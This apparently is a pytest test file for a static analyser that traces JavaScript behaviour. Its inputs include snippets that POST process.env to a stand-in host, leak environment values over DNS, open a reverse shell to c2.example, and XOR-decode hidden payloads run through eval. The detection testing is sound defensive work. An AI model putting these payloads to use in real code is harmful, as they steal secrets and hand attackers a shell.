"""What JavaScript makes of texts and bytes, and hands to interpreters, is followed."""

import pytest
from tests.static.reading import package, seen, short

from biopsy.model.behaviour import When


def js(code: str, when: When = When.IMPORT) -> list[str]:
    return seen(code, "index.js", when)


PAYLOAD = "fetch('https://x.example/u', { method: 'POST', body: JSON.stringify(process.env) })"


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').spawn(process.execPath, ['-e', CODE], { detached: true }).unref()",
        "require('child_process').execFileSync('node', ['--eval', CODE])",
        "require('vm').runInThisContext('(function (require) {' + CODE + '})')(require)",
        "new (require('vm').Script)('(function () {' + CODE + '})').runInThisContext()()",
        "new Function('r', CODE)(require)",
        "const M = require('module'); const m = new M('x'); m._compile(CODE, 'x')",
        "new module.constructor()._compile(CODE, '')",
        "new (require('worker_threads').Worker)(CODE, { eval: true })",
    ],
)
def test_what_a_text_is_made_into_runs_at_the_moment_of_its_call(code: str) -> None:
    assert "code.flow env:* > network @ index.js:1 (install)" in js(
        code.replace("CODE", repr(PAYLOAD).replace("\\'", "\\'")), When.INSTALL
    )


def test_a_function_made_of_a_text_gets_what_it_is_called_with() -> None:
    code = """new Function('r', "r('child_process').exec('id -u')")(require)"""
    assert "process.exec id -u @ index.js:1 (import)" in js(code)


@pytest.mark.parametrize(
    "loop",
    [
        "const out = Object.keys(process.env).map((k) => process.env[k]).join('')",
        "let out = ''; for (const k in process.env) out += process.env[k]",
        "let out = ''; for (const k of Object.keys(process.env)) { out += k + process.env[k] }",
    ],
)
def test_variables_that_are_taken_name_by_name_are_the_environment(loop: str) -> None:
    code = f"{loop}\nrequire('dns').lookup(out.slice(0, 60) + '.x.example', () => {{}})"
    assert "code.flow env:* > network" in short(js(code))


@pytest.mark.parametrize(
    "test",
    [
        "name.toLowerCase().indexOf('npm_config_') === 0",
        "name.startsWith('npm_config_')",
        "/^npm_config_/i.test(name)",
    ],
)
@pytest.mark.parametrize(
    "loop",
    [
        "for (const name in process.env) { if (TEST) gyp[name] = process.env[name] }",
        "Object.keys(process.env).filter((name) => TEST).forEach((name) => { gyp[name] = process.env[name] })",
    ],
)
def test_settings_of_one_program_are_not_the_environment(loop: str, test: str) -> None:
    code = f"const gyp = {{}}; {loop.replace('TEST', test)}\nfetch('https://x.example/' + gyp.target)"
    assert not any("code.flow env" in b for b in js(code))


@pytest.mark.parametrize("test", ["/TOKEN|KEY/.test(k)", "k.startsWith('AWS_SECRET')", "k.length > 2"])
def test_secrets_that_are_picked_by_their_names_are_the_environment(test: str) -> None:
    code = f"""
const out = Object.keys(process.env).filter((k) => {test}).map((k) => process.env[k]).join('')
fetch('https://x.example/', {{ method: 'POST', body: out }})
"""
    assert "code.flow env:* > network" in short(js(code))


def test_names_of_variables_alone_are_not_their_values() -> None:
    code = "fetch('https://x.example/', { method: 'POST', body: Object.keys(process.env).length })"
    assert not any("env:*" in b for b in js(code))


@pytest.mark.parametrize(
    "ties",
    [
        "wire.pipe(sh.stdin); sh.stdout.pipe(wire)",
        "wire.on('data', (d) => sh.stdin.write(d))",
    ],
)
def test_a_shell_that_a_connection_steers_is_a_reverse_shell(ties: str) -> None:
    code = f"""
const wire = require('net').connect(4444, 'c2.example', () => {{
  const sh = require('child_process').spawn('/bin/sh', ['-i'])
  {ties}
}})
"""
    assert "process.does reverse-shell piped" in short(js(code))


def test_other_programs_that_a_connection_feeds_are_not() -> None:
    code = """
const wire = require('net').connect(4444, 'c2.example', () => {
  const tar = require('child_process').spawn('tar', ['-x'])
  wire.pipe(tar.stdin)
})
"""
    assert not any("reverse-shell" in b for b in js(code))


def test_an_array_that_is_turned_before_it_is_asked_is_turned() -> None:
    code = """
const a = ['exec', 'child_process', 'curl https://x.example | sh'];
(function (a, n) { while (n--) a['push'](a['shift']()) })(a, 0x1);
const f = (i) => a[i - 0x10];
require(f(0x10))[f(0x12)](f(0x11))
"""
    assert "process.exec curl https://x.example | sh" in short(js(code))


@pytest.mark.parametrize("endless", ["let i = 1; while (i < 2) { i += 0 }", "let i = 9; while (i--) i += 2"])
def test_a_loop_without_end_does_not_keep_the_rest_from_being_read(endless: str) -> None:
    assert "process.exec id -u" in short(js(f"{endless}\nrequire('child_process').exec('id -u')"))


def test_callbacks_that_connect_again_and_again_end() -> None:
    code = "const go = () => { const s = require('net').connect(1, 'x.example', () => go()) }; go()"
    assert "net.connect x.example:1" in short(js(code))


HIDDEN = bytes(b ^ 0x5A for b in PAYLOAD.encode())
NUMBERS = ", ".join(map(str, HIDDEN))


@pytest.mark.parametrize(
    "code",
    [
        "eval(Buffer.from(HEX, 'hex').map((b) => b ^ 0x5a).toString())",
        "const b = Buffer.from(HEX, 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 0x5a; eval(b.toString())",
        """const a = new Uint8Array([NUMBERS]), k = [0x5a]
for (let i = 0; i < a.length; i++) { a[i] = a[i] ^ k[i % 1] }; new Function(new TextDecoder().decode(a))()""",
        "const t = Uint8Array.from([NUMBERS], (b) => b ^ 90); eval(Buffer.from(t).toString('utf8'))",
        "eval(String.fromCharCode(...Buffer.from(HEX, 'hex').map((b) => b ^ 90)))",
        "let s = ''; Buffer.from(HEX, 'hex').forEach((b) => { s += String.fromCharCode(b ^ 90) }); eval(s)",
        "let s = ''; for (const b of Buffer.from(HEX, 'hex')) s += String.fromCharCode(b ^ 90); eval(s)",
        "let s = '', i = 0; const b = [NUMBERS]; while (i < b.length) { s += String.fromCharCode(b[i++] ^ 90) } eval(s)",
        "eval(Buffer.concat([Buffer.from(HEX, 'hex'), Buffer.alloc(0)]).map((b) => b ^ 90) + '')",
    ],
)
def test_bytes_are_followed_through_what_is_done_to_each_of_them(code: str) -> None:
    code = code.replace("HEX", repr(HIDDEN.hex())).replace("NUMBERS", NUMBERS)
    assert any(b.startswith("code.flow env:* > network @ ") and b.endswith("(import)") for b in js(code))


def test_a_data_file_of_the_package_is_decoded_and_runs_where_it_is_evaluated() -> None:
    code = "eval(require('fs').readFileSync(require('path').join(__dirname, 'w.dat')).map((n) => n ^ 90).toString())"
    found = package({"lib/a.js": code, "lib/w.dat": HIDDEN})
    assert "code.flow env:* > network @ lib/a.js:1 (import)" in found
    assert "code.flow decoded > execution @ lib/a.js:1 (import)" in found


def test_a_module_finds_its_files_by_its_own_address() -> None:
    code = """import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import path from 'node:path'
eval(readFileSync(PLACE).map((n) => n ^ 90).toString())"""
    for place in ("path.join(import.meta.dirname, 'w.dat')", "new URL('./w.dat', import.meta.url)",
                  "path.join(path.dirname(fileURLToPath(import.meta.url)), 'w.dat')"):  # fmt: skip
        found = package({"lib/a.mjs": code.replace("PLACE", place), "lib/w.dat": HIDDEN})
        assert "code.flow env:* > network @ lib/a.mjs:4 (import)" in found
